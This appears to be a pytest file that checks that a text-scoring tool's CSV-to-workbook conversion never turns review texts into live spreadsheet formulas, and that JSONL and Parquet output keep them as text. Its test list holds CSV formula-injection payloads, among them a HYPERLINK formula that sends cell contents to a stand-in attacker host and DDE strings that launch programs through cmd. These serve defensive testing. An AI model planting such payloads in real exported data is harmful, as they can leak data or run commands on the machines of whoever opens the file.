"""Texts that a spreadsheet would run, from a stranger's review to a workbook."""

from __future__ import annotations

import json
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest

from tests.cli.running import Command
from tests.data import PROJECT

RUN = [
    '=HYPERLINK("http://evil.invalid/?"&A1,"a superb film")',
    "=cmd|'/C calc'!A0 a superb film",
    "+1+cmd|' /C notepad'!'A1' superb",
    "-2+3 a dull film",
    "@SUM(1+1)*cmd|' /C calc'!A0 dull",
    "\t=1+1 superb",
    "\r=1+1 superb",
    '"=1+1" superb',
    "007 superb",
]
TEXT = [*RUN, "plain, and superb", "two\nlines, superb", "\x07 superb", None, "x" * 40_000]


@pytest.mark.parametrize("header", ["text", "=1+1"])
def test_nothing_in_the_workbook_is_a_formula(command: Command, header: str) -> None:
    lines = (json.dumps({header: text, "id": "=2+2"}) for text in TEXT)
    Path("a.jsonl").write_text("\n".join(lines), "utf-8")
    assert command("score", "a.jsonl", "-o", "b.csv", "--text-column", header, "-q").exit_code == 0
    assert "=cmd|" in Path("b.csv").read_text("utf-8")  # as it came, which SECURITY.md says
    program = PROJECT / "examples" / "as_workbook.py"
    subprocess.run([sys.executable, program, "b.csv", "b.xlsx"], check=True)
    with zipfile.ZipFile("b.xlsx") as archive:
        for name in archive.namelist():
            assert not re.search(rb"<f[ >/]|externalLink|ddeLink", archive.read(name))
    rows = [*openpyxl.load_workbook("b.xlsx").active.iter_rows()]
    assert "f" not in {cell.data_type for row in rows for cell in row}
    for text, (first, second, sentiment, probability) in zip(TEXT, rows[1:], strict=True):
        assert second.value == "=2+2"
        shown = text and text.replace("\x07", "\ufffd").replace("\r", "\n")  # XML has no \r
        assert first.value == (shown and shown[:32_767])
        assert (sentiment.value is None) == (probability.value is None)
        assert probability.value is None or 0 <= probability.value <= 1


def test_other_columns_with_the_names_of_scores(tmp_path: Path) -> None:
    """The stars of the input may be words; what only Python reads as a number is text, too."""
    values = ["4 stars", "nan", "inf", "1_000", "1e400", "\u0663", "4.5", "0", "1e-05", ""]
    (tmp_path / "b.csv").write_text(
        "text,stars\n" + "".join(f"x,{one}\n" for one in values), "utf-8"
    )
    program = PROJECT / "examples" / "as_workbook.py"
    subprocess.run([sys.executable, program, "b.csv", "b.xlsx"], check=True, cwd=tmp_path)
    sheet = openpyxl.load_workbook(tmp_path / "b.xlsx").active
    found = [stars for (stars,) in sheet.iter_rows(2, min_col=2, values_only=True)]
    assert found == [*values[:6], 4.5, 0, 1e-05, None]


@pytest.mark.parametrize("ending", [".jsonl", ".parquet"])
def test_other_formats_keep_texts_as_texts(command: Command, ending: str) -> None:
    """What SECURITY.md names: formats in which a text cannot be a formula."""
    import pyarrow.json
    import pyarrow.parquet

    Path("a.jsonl").write_text("\n".join(json.dumps({"text": text}) for text in RUN), "utf-8")
    assert command("score", "a.jsonl", "-o", f"b{ending}", "-q").exit_code == 0
    read = {".jsonl": pyarrow.json.read_json, ".parquet": pyarrow.parquet.read_table}[ending]
    assert read(f"b{ending}")["text"].to_pylist() == RUN
